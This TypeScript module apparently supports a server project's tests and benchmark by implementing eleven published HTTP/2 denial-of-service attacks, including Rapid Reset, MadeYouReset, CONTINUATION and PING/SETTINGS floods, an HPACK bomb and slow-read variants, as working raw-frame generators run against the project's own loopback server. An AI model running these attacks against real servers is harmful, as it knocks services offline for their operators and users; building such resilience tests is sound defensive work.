import { setMaxListeners } from 'node:events';
import { connect, type Socket } from 'node:net';
import { encodeHeaders } from '../../src/wire/http2/hpack.ts';
import { SERVICE_NAME } from './proto.ts';
import { h2Frame as frame } from './wire.ts';

// The published HTTP/2 denial-of-service attacks, as an attacker runs them:
// raw frames on as many connections as it likes, reconnecting whenever the
// server cuts one off. Each runs until its signal aborts and reports what it
// did. The tests (http2-attacks.test.ts) and the benchmark (bench/attacks.ts)
// both run them against a server a legitimate client is calling.

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const DATA = 0x0;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const PING = 0x6;
const WINDOW_UPDATE = 0x8;
const CONTINUATION = 0x9;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 0x8;
const SETTINGS_INITIAL_WINDOW_SIZE = 0x4;

/** The attacker's source address: any 127.0.0.0/8 address is this host's loopback. */
const ATTACKER_ADDRESS = '127.0.0.2';

/** A session the slow-reading attacker asks for over and over: 64 KB each time. */
export const LARGE_SESSION_KEY = 'attack-large-session';
export const LARGE_SESSION_BYTES = 64 * 1024;

export interface AttackReport {
  /** Connections the attacker opened. */
  connections: number;
  /** Connections the server closed on the attacker. */
  cutOff: number;
  /** Bytes the attacker wrote. */
  bytesSent: number;
}

export interface Attack {
  readonly name: string;
  /** What it does, for the benchmark's table. */
  readonly summary: string;
  run(port: number, signal: AbortSignal): Promise<AttackReport>;
}

const request = (method: string) =>
  encodeHeaders([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', `/${SERVICE_NAME}/${method}`],
    [':authority', 'localhost'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
  ]);

/** A gRPC message of a protobuf with field 1 (the session key) only. */
function keyMessage(key: string): Buffer {
  const body = Buffer.concat([Buffer.from([0x0a, key.length]), Buffer.from(key)]);
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(body.length, 1);
  return Buffer.concat([prefix, body]);
}

const u32 = (value: number) => {
  const out = Buffer.alloc(4);
  out.writeUInt32BE(value);
  return out;
};

/** A connection of the attacker's: preface and SETTINGS sent, the server's SETTINGS acked. */
class AttackSocket {
  readonly socket: Socket;
  closedByServer = false;
  #closed = false;
  nextStream = 1;

  readonly #signal: AbortSignal;

  constructor(
    port: number,
    signal: AbortSignal,
    reading: boolean,
    settings: Buffer = Buffer.alloc(0),
  ) {
    this.#signal = signal;
    // From an address of its own, as an attacker on another host would be:
    // the server's penalty for it must not fall on the legitimate client.
    this.socket = connect({ port, host: '127.0.0.1', localAddress: ATTACKER_ADDRESS });
    this.socket.setNoDelay(true);
    this.socket.on('error', () => {});
    this.socket.on('end', () => {
      this.closedByServer = true;
    });
    this.socket.once('close', () => {
      this.#closed = true;
    });
    if (reading) this.socket.resume();
    else this.socket.pause();
    this.socket.write(
      Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, settings), frame(SETTINGS, ACK, 0)]),
    );
  }

  get closed(): boolean {
    return this.#closed || this.socket.destroyed;
  }

  /**
   * Writes, and waits for the socket to take more (a real attacker does not
   * buffer gigabytes itself), or for the connection or the attack to end.
   */
  async write(bytes: Buffer): Promise<void> {
    if (this.closed || this.#signal.aborted) return;
    if (this.socket.write(bytes)) return;
    await new Promise<void>((resolve) => {
      const done = () => {
        this.socket.off('drain', done);
        this.socket.off('close', done);
        this.#signal.removeEventListener('abort', done);
        resolve();
      };
      this.socket.once('drain', done);
      this.socket.once('close', done);
      this.#signal.addEventListener('abort', done);
    });
  }

  streams(count: number): number[] {
    const ids: number[] = [];
    for (let i = 0; i < count; i++) {
      ids.push(this.nextStream);
      this.nextStream += 2;
    }
    return ids;
  }

  close(): void {
    this.socket.destroy();
  }
}

/**
 * Keeps `parallel` attack connections going until the signal aborts: each
 * runs `session` until the server closes it, then a new one takes its place.
 */
async function onConnections(
  port: number,
  signal: AbortSignal,
  options: { parallel: number; reading: boolean; settings?: Buffer },
  session: (connection: AttackSocket) => Promise<void>,
): Promise<AttackReport> {
  const report: AttackReport = { connections: 0, cutOff: 0, bytesSent: 0 };
  // Every connection waiting for drain listens for the abort.
  setMaxListeners(4 * options.parallel + 10, signal);
  const worker = async () => {
    while (!signal.aborted) {
      const connection = new AttackSocket(port, signal, options.reading, options.settings);
      report.connections++;
      await new Promise<void>((resolve) => {
        connection.socket.once('connect', resolve);
        connection.socket.once('close', resolve);
      });
      while (!signal.aborted && !connection.closed) {
        await session(connection);
        // Let the event loop breathe: the attacker shares the machine too.
        await new Promise((resolve) => setImmediate(resolve));
      }
      report.bytesSent += connection.socket.bytesWritten;
      if (connection.closed && !signal.aborted) report.cutOff++;
      connection.close();
      if (!signal.aborted) await new Promise((resolve) => setTimeout(resolve, 5));
    }
  };
  await Promise.all(Array.from({ length: options.parallel }, worker));
  return report;
}

function repeat(count: number, make: () => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, make));
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'rapid reset',
    summary: 'CVE-2023-44487: complete SetSession requests, each reset in the same packet',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 2, reading: true }, async (c) => {
        const setRequest = request('SetSession');
        const body = keyMessage('attack-reset');
        await c.write(
          Buffer.concat(
            c
              .streams(100)
              .flatMap((id) => [
                frame(HEADERS, END_HEADERS, id, setRequest),
                frame(DATA, END_STREAM, id, body),
                frame(RST_STREAM, 0, id, u32(CANCEL)),
              ]),
          ),
        );
      }),
  },
  {
    name: 'server-induced resets',
    summary:
      'CVE-2025-8671 (MadeYouReset): complete requests, then a WINDOW_UPDATE of 0 that makes the server reset them',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 2, reading: true }, async (c) => {
        const getRequest = request('GetSession');
        const body = keyMessage(LARGE_SESSION_KEY);
        await c.write(
          Buffer.concat(
            c
              .streams(100)
              .flatMap((id) => [
                frame(HEADERS, END_HEADERS, id, getRequest),
                frame(DATA, END_STREAM, id, body),
                frame(WINDOW_UPDATE, 0, id, u32(0)),
              ]),
          ),
        );
      }),
  },
  {
    name: 'empty CONTINUATION',
    summary: 'CVE-2024-27316 style: a header block that never ends, in empty CONTINUATION frames',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 2, reading: true }, async (c) => {
        const [id] = c.streams(1);
        await c.write(frame(HEADERS, 0, id as number, request('GetSession')));
        for (let i = 0; i < 20 && !c.closed; i++) {
          await c.write(repeat(4096, () => frame(CONTINUATION, 0, id as number)));
        }
      }),
  },
  {
    name: 'HPACK bomb',
    summary: 'one 4 KB dynamic-table entry referenced 12,000 times per header block',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 2, reading: true }, async (c) => {
        const [id] = c.streams(1);
        const value = Buffer.alloc(4000, 'v');
        const entry = Buffer.concat([
          Buffer.from([0x40, 1, 0x78, 0x7f, ((4000 - 127) & 0x7f) | 0x80, (4000 - 127) >>> 7]),
          value,
        ]);
        const block = Buffer.concat([entry, Buffer.alloc(12_000, 0xbe)]);
        await c.write(frame(HEADERS, END_HEADERS | END_STREAM, id as number, block));
      }),
  },
  {
    name: 'PING flood (not reading)',
    summary: 'CVE-2019-9512: PINGs from 16 connections that never read the acks',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 16, reading: false }, async (c) => {
        await c.write(repeat(4096, () => frame(PING, 0, 0, Buffer.alloc(8))));
      }),
  },
  {
    name: 'SETTINGS flood',
    summary: 'CVE-2019-9515: SETTINGS frames as fast as the socket takes them',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 2, reading: true }, async (c) => {
        const entry = Buffer.alloc(6);
        entry.writeUInt16BE(SETTINGS_INITIAL_WINDOW_SIZE, 0);
        entry.writeUInt32BE(65_535, 2);
        await c.write(repeat(4096, () => frame(SETTINGS, 0, 0, entry)));
      }),
  },
  {
    name: 'SETTINGS that force large replies',
    summary: 'SETTINGS of 2730 INITIAL_WINDOW_SIZE entries each, over 1000 open streams',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 2, reading: true }, async (c) => {
        if (c.nextStream === 1) {
          const open = request('SetSession');
          await c.write(
            Buffer.concat(c.streams(1000).map((id) => frame(HEADERS, END_HEADERS, id, open))),
          );
        }
        const entries = Buffer.alloc(2730 * 6);
        for (let i = 0; i < 2730; i++) {
          entries.writeUInt16BE(SETTINGS_INITIAL_WINDOW_SIZE, i * 6);
          entries.writeUInt32BE(65_535 + (i % 2), i * 6 + 2);
        }
        await c.write(repeat(8, () => frame(SETTINGS, 0, 0, entries)));
      }),
  },
  {
    name: 'empty frames',
    summary: 'CVE-2019-9518: zero-length DATA frames without END_STREAM on an open stream',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 2, reading: true }, async (c) => {
        if (c.nextStream === 1) {
          await c.write(
            frame(HEADERS, END_HEADERS, c.streams(1)[0] as number, request('SetSession')),
          );
        }
        await c.write(repeat(4096, () => frame(DATA, 0, 1)));
      }),
  },
  {
    name: 'slow read (zero window)',
    summary:
      'CVE-2019-9517: 64 KB replies requested by 4 connections that never read them and open no window',
    run: (port, signal) =>
      onConnections(
        port,
        signal,
        { parallel: 4, reading: false, settings: settingsEntry(SETTINGS_INITIAL_WINDOW_SIZE, 0) },
        async (c) => {
          const getRequest = request('GetSession');
          const body = keyMessage(LARGE_SESSION_KEY);
          await c.write(
            Buffer.concat(
              c
                .streams(50)
                .flatMap((id) => [
                  frame(HEADERS, END_HEADERS, id, getRequest),
                  frame(DATA, END_STREAM, id, body),
                ]),
            ),
          );
          await new Promise((resolve) => setTimeout(resolve, 5));
        },
      ),
  },
  {
    name: 'trickled frames',
    summary: 'complete GetSession calls written one byte per TCP segment, from 8 connections',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 8, reading: true }, async (c) => {
        const [id] = c.streams(1);
        const call = Buffer.concat([
          frame(HEADERS, END_HEADERS, id as number, request('GetSession')),
          frame(DATA, END_STREAM, id as number, keyMessage(LARGE_SESSION_KEY)),
        ]);
        for (let at = 0; at < call.length && !c.closed && !signal.aborted; at++) {
          await c.write(call.subarray(at, at + 1));
          await new Promise((resolve) => setImmediate(resolve));
        }
      }),
  },
  {
    name: 'request bodies held open',
    summary: '16 connections of 1000 streams each, every body declaring 1 MB and stopping at 64 KB',
    run: (port, signal) =>
      onConnections(port, signal, { parallel: 16, reading: true }, async (c) => {
        const open = request('SetSession');
        const start = Buffer.alloc(16_384);
        start.writeUInt32BE(1_000_000, 1);
        const rest = Buffer.alloc(16_384);
        for (const id of c.streams(50)) {
          await c.write(
            Buffer.concat([
              frame(HEADERS, END_HEADERS, id, open),
              frame(DATA, 0, id, start),
              ...Array.from({ length: 3 }, () => frame(DATA, 0, id, rest)),
            ]),
          );
        }
        if (c.nextStream > 2000) await new Promise((resolve) => setTimeout(resolve, 100));
      }),
  },
];

function settingsEntry(id: number, value: number): Buffer {
  const entry = Buffer.alloc(6);
  entry.writeUInt16BE(id, 0);
  entry.writeUInt32BE(value, 2);
  return entry;
}
